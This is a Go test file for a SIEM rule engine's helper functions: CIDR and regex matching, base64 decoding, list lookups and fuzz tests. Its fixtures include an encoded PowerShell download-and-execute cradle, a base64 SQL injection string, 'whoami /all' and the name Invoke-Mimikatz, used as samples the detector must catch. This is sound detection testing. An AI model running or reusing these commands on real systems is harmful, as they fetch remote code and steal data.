package rules

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"
	"unicode/utf16"

	"github.com/expr-lang/expr/vm"

	"github.com/vigil-siem/vigil/event"
)

// powershellEnc encodes a command the way powershell -EncodedCommand wants it.
func powershellEnc(cmd string) string {
	u := utf16.Encode([]rune(cmd))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestHelperFunctions(t *testing.T) {
	ev := event.Event{
		"source.ip":            "10.1.2.3",
		"source.port":          "2222", // a string where a number is expected
		"destination.port":     int64(443),
		"user.name":            "Administrator",
		"process.command_line": "powershell.exe -NoP -enc " + powershellEnc("IEX (New-Object Net.WebClient).DownloadString('http://x/a')"),
		"url.original":         "/index.php?q=" + base64.StdEncoding.EncodeToString([]byte("union select password from users")),
		"event.category":       []any{"authentication", "network"},
		"message":              "Accepted password",
	}
	lists := fstest.MapFS{
		"admins.txt":   {Data: []byte("# admin accounts\nadministrator\nAdministrator  # built-in\n\nroot\n")},
		"internal.txt": {Data: []byte("10.0.0.0/8\n192.168.1.1\n")},
	}
	cases := []struct {
		expr string
		want bool
	}{
		{`cidr(source.ip, "10.0.0.0/8")`, true},
		{`cidr(source.ip, "192.168.0.0/16")`, false},
		{`cidr(missing.ip, "10.0.0.0/8")`, false},
		{`re(user.name, "^Admin")`, true},
		{`re(user.name, "^admin")`, false},
		{`re(missing.field, ".*")`, false},
		{`icontains(process.command_line, "DOWNLOADSTRING")`, false}, // encoded, not in clear
		{`icontains(user.name, "ADMIN")`, true},
		{`istartsWith(user.name, "admin")`, true},
		{`istartsWith(user.name, "root")`, false},
		{`iendsWith(user.name, "TRATOR")`, true},
		{`iendsWith(missing.field, "x")`, false},
		{`base64_contains(process.command_line, "downloadstring")`, true},
		{`base64_contains(process.command_line, "Invoke-Mimikatz")`, false},
		{`base64_contains(url.original, "UNION SELECT")`, true},
		{`base64_contains("` + base64.StdEncoding.EncodeToString([]byte("whoami /all")) + `", "whoami")`, true},
		{`base64_contains(missing.field, "x")`, false},
		{`in_list(user.name, "admins")`, true},
		{`in_list("alice", "admins")`, false},
		{`in_list(source.ip, "internal")`, true},
		{`in_list("192.168.1.1", "internal")`, true},
		{`in_list(missing.field, "admins")`, false},
		{`lower(user.name) == "administrator"`, true},
		{`lower(missing.field) == ""`, true},
		{`len(event.category) == 2`, true},
		{`len(missing.field) == 0`, true},
		{`destination.port > 100 && destination.port <= 443`, true},
		{`destination.port >= 444`, false},
		{`source.port > 1024`, false},  // a string is not a number: false, not an error
		{`missing.port > 1024`, false}, // missing: false, not an error
		{`missing.port < 1024`, false},
		{`user.name > "A"`, true}, // strings compare with strings
		{`message contains "Accepted"`, true},
	}
	e, errs := newEnv(newLoadConfig([]LoadOption{WithListsFS(lists)}))
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	machine := &vm.VM{}
	for _, c := range cases {
		cond, _, err := e.compile(c.expr)
		if err != nil {
			t.Errorf("%s: %v", c.expr, err)
			continue
		}
		got, err := cond.eval(ev, machine)
		if err != nil {
			t.Errorf("%s: runtime error %v", c.expr, err)
			continue
		}
		if got != c.want {
			t.Errorf("%s = %v, want %v", c.expr, got, c.want)
		}
	}
}

func TestConstantArgumentsAreCheckedAtLoad(t *testing.T) {
	e, _ := newEnv(newLoadConfig([]LoadOption{WithListsFS(fstest.MapFS{"admins.txt": {Data: []byte("root\n")}})}))
	cases := []struct{ expr, wantErr string }{
		{`re(user.name, "([a-z")`, "re: bad pattern"},
		{`in_list(user.name, "nosuch")`, `in_list: unknown list "nosuch" (lists: admins)`},
		{`in_intel(source.ip)`, "unknown function in_intel()"},
	}
	for _, c := range cases {
		_, _, err := e.compile(c.expr)
		if err == nil || !strings.Contains(err.Error(), c.wantErr) {
			t.Errorf("%s: error %v, want %q", c.expr, err, c.wantErr)
		}
	}
}

func TestExternalFunctionsAndListsThroughLoadFS(t *testing.T) {
	intel := map[string]bool{"203.0.113.66": true}
	fns := map[string]func(params ...any) (any, error){
		"in_intel": func(params ...any) (any, error) {
			ip, _ := params[0].(string)
			return intel[ip], nil
		},
	}
	rulesFS := fstest.MapFS{"r.yaml": {Data: []byte(`id: intel
name: Known bad source
kind: match
severity: high
condition: in_intel(source.ip) && !in_list(user.name, "service_accounts")
`)}}
	lists := fstest.MapFS{"service_accounts.txt": {Data: []byte("backup\n")}}
	if _, errs := LoadFS(rulesFS, "."); len(errs) != 1 || !strings.Contains(errs[0].Error(), "r.yaml:5: rule intel: condition: unknown function in_intel()") {
		t.Fatalf("without the function: %v", errs)
	}
	rs, errs := LoadFS(rulesFS, ".", WithFunctions(fns), WithListsFS(lists))
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	cases := []struct {
		ip, user string
		want     int
	}{{"203.0.113.66", "root", 1}, {"203.0.113.66", "backup", 0}, {"198.51.100.1", "root", 0}}
	for _, c := range cases {
		if got := runAll(rs[0], EngineConfig{}, []event.Event{sshEvent(1, t0, c.ip, c.user, "success")}); len(got) != c.want {
			t.Errorf("%s as %s: %d alerts, want %d", c.ip, c.user, len(got), c.want)
		}
	}
}

// FuzzBase64Contains: any value is handled without panic, and printable
// ASCII text (6 bytes or more) base64-encoded inside a command line is
// always found.
func FuzzBase64Contains(f *testing.F) {
	f.Add("IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "downloadstring")
	f.Add("whoami /all", "WHOAMI")
	f.Add("abcdefg", "cde")
	f.Fuzz(func(t *testing.T, text, needle string) {
		base64Contains(text, needle) // arbitrary input must not panic
		for _, r := range text + needle {
			if r < 0x20 || r > 0x7e {
				return
			}
		}
		if len(text) < 6 || needle == "" || !strings.Contains(strings.ToLower(text), strings.ToLower(needle)) {
			return
		}
		for _, enc := range []string{base64.StdEncoding.EncodeToString([]byte(text)), powershellEnc(text)} {
			if !base64Contains("cmd.exe /c run "+enc+" now", needle) {
				t.Fatalf("%q not found in base64 of %q (%s)", needle, text, enc)
			}
		}
	})
}

func ExampleWithFunctions() {
	fns := map[string]func(params ...any) (any, error){
		"is_private": func(params ...any) (any, error) {
			ip, _ := params[0].(string)
			return strings.HasPrefix(ip, "10."), nil
		},
	}
	rs, errs := Parse("r.yaml", []byte("id: x\nname: X\nkind: match\nseverity: low\ncondition: is_private(source.ip)\n"), WithFunctions(fns))
	fmt.Println(len(rs), len(errs))
	// Output: 1 0
}
